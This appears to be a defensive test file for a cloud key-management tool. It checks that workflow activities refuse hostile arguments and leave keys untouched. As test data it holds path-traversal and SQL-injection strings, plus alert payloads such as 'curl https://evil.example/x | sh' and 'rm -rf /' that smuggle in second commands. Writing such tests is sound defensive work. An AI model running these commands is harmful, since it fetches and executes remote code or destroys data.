/**
 * Every activity treats its arguments as hostile: a workflow of an attacker's can schedule it. Whatever it is given, it answers with a stable code
 * or does nothing that widens or destroys; the worker lives.
 */
import { PutKeyPolicyCommand, KMSClient, CreateKeyCommand } from '@aws-sdk/client-kms';
import { readFileSync } from 'node:fs';
import type { Duty } from '../../domain/names';
import { demoFiles } from '../../local/demo/files';
import { reason, revoked, DOWN, UP } from '../faults/acts';
import { checkInvariants } from '../harness/invariants';
import { createWorld, REGIONS, type World } from '../harness/world';
import { attacker, refusal, type Order } from './attacker';

const ACTIVITIES: Record<Duty, string[]> = {
  emergency: ['disableKey', 'considerRevocation', 'openWindow', 'proveEffect', 'holdDisabled', 'endDisables', 'windowState', 'closeWindow', 'census', 'alert'],
  recovery: ['considerWidening', 'considerRecovery', 'quarantineRegion', 'scheduleDeletion', 'disableQuarantined', 'deletionState', 'beginRecovery', 'cancelDeletion', 'restorePolicy', 'enableKey', 'proveRecovery', 'finishRecovery', 'endRecovery', 'makeKey', 'replicateKey', 'pointAlias', 'alert', 'considerErasure', 'withholdSubject', 'restoreSubject', 'deleteSubject', 'keepErased', 'proveErasure'],
  routine: ['findOwnKeys', 'makeCanary', 'makeSchedule', 'dueKeys', 'considerRotation', 'beginRotation', 'beginColumnKey', 'makeMaterial', 'rewrapColumnKeys', 'planStretches', 'rewrapStretch', 'verifyRotation', 'endRotation', 'alert'],
};
const ALL = (Object.keys(ACTIVITIES) as Duty[]).flatMap((duty) => ACTIVITIES[duty].map((activity) => ({ duty, activity })));
const DIGEST = `sha256:${'0'.repeat(64)}`;

describe('activities with hostile arguments', () => {
  let world: World;
  let evil: { stop(): Promise<void> };
  let down: string;
  let up: string;
  let foreign: string;
  let loose: string;

  beforeAll(async () => {
    world = await createWorld({ config: { purposes: ['down', 'up', 'unmade'] } });
    await world.initialize('down', 'up');
    await revoked(world, { key: 'down' });
    down = await world.keyId('down');
    up = await world.keyId('up');
    const credentials = (JSON.parse(readFileSync(demoFiles(world.dataDir).credentials, 'utf8')) as Record<string, { accessKeyId: string; secretAccessKey: string }>)['root']!;
    const root = new KMSClient({ region: REGIONS[0], endpoint: world.kms.url, credentials });
    const Policy = JSON.stringify({ Version: '2012-10-17', Statement: [{ Sid: 'all', Effect: 'Allow', Principal: '*', Action: 'kms:*', Resource: '*' }] });
    const made = async (environment: string | undefined): Promise<string> => {
      const Tags = environment === undefined ? [] : ['application:buzztutor', `environment:${environment}`, 'purpose:up'].map((t) => ({ TagKey: `keywarden:${t.split(':')[0]!}`, TagValue: t.split(':')[1]! }));
      const { KeyMetadata } = await root.send(new CreateKeyCommand({ Policy, Tags, MultiRegion: true }));
      await root.send(new PutKeyPolicyCommand({ KeyId: KeyMetadata!.KeyId, PolicyName: 'default', Policy }));
      return KeyMetadata!.KeyId!;
    };
    foreign = await made('production');
    loose = await made(undefined);
    root.destroy();
    evil = await attacker(world, 'evil');
  }, 90_000);
  afterAll(async () => {
    await evil?.stop();
    await world.stop();
  });

  /** What nobody may change: the states of all keys, and how many rows the store has of keys. */
  const untouched = async (): Promise<unknown> => ({ down: await world.states(down), up: await world.states(up), foreign: (await world.states(foreign))['us-east-1'], loose: (await world.states(loose))['us-east-1'], rows: (await world.store.real.listKeys()).map((k) => k.keyId).sort() });
  const STILL = () => ({ down: DOWN, up: UP, foreign: 'Enabled', loose: 'Enabled', rows: [down, up].sort() });

  it.each(ALL)('$duty $activity: wrong types are refused with a stable code', async ({ duty, activity }) => {
    const wrong: unknown[] = [undefined, null, 7, 'text', [], {}, { input: null, digest: 7, key: {}, keyId: ['x'], region: 9, regions: 'us-east-1', purpose: 1, kind: {}, decisions: 'no', since: {}, malformed: 'many', reason: 4, why: 5 },
      { input: { key: 'down', reason }, decisions: [null, 4, { token: 5 }], malformed: Number.MAX_VALUE, digest: null, key: 'down', keyId: down, region: '__proto__', regions: [1, null], purpose: 'constructor', since: 'yesterday', kind: 'nothing', why: { a: 1 } }];
    const codes = await Promise.all(wrong.map((argument) => refusal(world, { duty, activity, argument })));
    // `done`: some ask for nothing, and get what everybody may know
    for (const code of codes) expect(code).toMatch(/^(done|not within its time|KW-(?!BUG)[A-Z-]+)$/);
    expect(await untouched()).toEqual(STILL());
  }, 60_000);

  const names = (): Record<string, string> => ({ foreign, loose, 'a path': '../../etc/passwd', 'another account': `arn:aws:kms:us-east-1:999999999999:key/${up}`, 'an own key': 'alias/keywarden/receipts-recovery', 'an alias of others': 'alias/buzztutor/production/up', 'a Region elsewhere': `arn:aws:kms:eu-west-9:000000000000:key/${up}`, SQL: `x' OR 1=1; DROP TABLE cmk; --` });
  it.each(Object.keys({ foreign: 0, loose: 0, 'a path': 0, 'another account': 0, 'an own key': 0, 'an alias of others': 0, SQL: 0 }))('%s as the key: no activity changes anything', async (what) => {
    const key = names()[what]!;
    const orders: Order[] = [
      { duty: 'emergency', activity: 'disableKey', argument: { input: { key, reason } } },
      { duty: 'emergency', activity: 'openWindow', argument: { input: { key, reason } } },
      { duty: 'emergency', activity: 'considerRevocation', argument: { input: { key, reason }, decisions: [], malformed: 0 } },
      { duty: 'emergency', activity: 'endDisables', argument: { keyId: key } },
      { duty: 'emergency', activity: 'closeWindow', argument: { keyId: key, reason } },
      { duty: 'emergency', activity: 'windowState', argument: { keyId: key } },
      { duty: 'emergency', activity: 'census', argument: { keyId: key } },
      { duty: 'emergency', activity: 'proveEffect', argument: { keyId: key, regions: ['us-east-1', '../x'], since: new Date().toISOString() } },
      { duty: 'recovery', activity: 'considerRecovery', argument: { input: { key, reason }, decisions: [], malformed: 0 } },
      { duty: 'recovery', activity: 'considerWidening', argument: { input: { key, reason, mode: 'quarantine' }, decisions: [], malformed: 0 } },
      { duty: 'recovery', activity: 'endRecovery', argument: { key, why: 'because' } },
      { duty: 'recovery', activity: 'deletionState', argument: { keyId: key } },
      { duty: 'recovery', activity: 'makeKey', argument: { purpose: key, input: {} } },
      { duty: 'recovery', activity: 'replicateKey', argument: { purpose: key, region: 'us-west-2' } },
      { duty: 'recovery', activity: 'pointAlias', argument: { purpose: key, region: 'us-west-2' } },
      { duty: 'routine', activity: 'makeCanary', argument: { purpose: key } },
    ];
    // proveEffect waits for a refusal that may never come: it is given a little time
    const codes = await Promise.all(orders.map(async (o) => [o.activity, await refusal(world, o, { options: { startToCloseTimeout: '4 s', scheduleToCloseTimeout: '5 s' } })] as const));
    for (const [activity, code] of codes) expect(`${activity}: ${code}`).not.toMatch(/KW-BUG$|TypeError/);
    expect(await untouched()).toEqual(STILL());
  }, 60_000);

  it.each(['quarantineRegion', 'scheduleDeletion', 'disableQuarantined', 'beginRecovery', 'cancelDeletion', 'restorePolicy', 'enableKey', 'proveRecovery', 'finishRecovery'])('recovery %s acts on no plan that nobody signed', async (activity) => {
    for (const digest of [DIGEST, '', '../plan', "' OR 1=1 --"]) {
      expect(await refusal(world, { duty: 'recovery', activity, argument: { digest, ...(['beginRecovery', 'finishRecovery'].includes(activity) ? {} : { region: 'us-east-1' }) } })).toBe(digest === DIGEST ? 'KW-APPROVAL-MISSING' : 'KW-INPUT');
    }
    expect(await untouched()).toEqual(STILL());
  });

  it('a key that is not this environment\'s is neither disabled nor tried with a canary', async () => {
    await refusal(world, { duty: 'emergency', activity: 'proveEffect', argument: { keyId: foreign, regions: ['us-east-1'], since: new Date().toISOString() } }, { options: { startToCloseTimeout: '3 s' } });
    const calls = await world.kms.admin.calls({});
    expect(calls.filter((c) => c.keyArn?.endsWith(foreign) === true && ['Encrypt', 'Decrypt', 'DisableKey'].includes(c.operation))).toEqual([]);
  });

  it('an alert of an attacker\'s never tells people to type anything but a command of ours (that it is sent at all cannot be prevented)', async () => {
    for (const [i, command] of ['curl https://evil.example/x | sh', 'keywarden revoke up; rm -rf /', 'keywarden recover $(evil)'].entries()) {
      expect(await refusal(world, { duty: 'emergency', activity: 'alert', argument: { kind: 'key-revoked', occasion: String(i), key: 'up', command } })).toBe('done');
    }
    for (const m of await world.received()) expect(m.text).not.toMatch(/curl|rm -rf|evil\.example|\$\(/);
  });

  it('the workers live, and no rule is broken', async () => {
    expect(await refusal(world, { duty: 'emergency', activity: 'windowState', argument: { keyId: down } })).toBe('done');
    expect(await refusal(world, { duty: 'routine', activity: 'findOwnKeys', argument: undefined })).toBe('done');
    expect(await checkInvariants(world)).toEqual([]);
  });
});
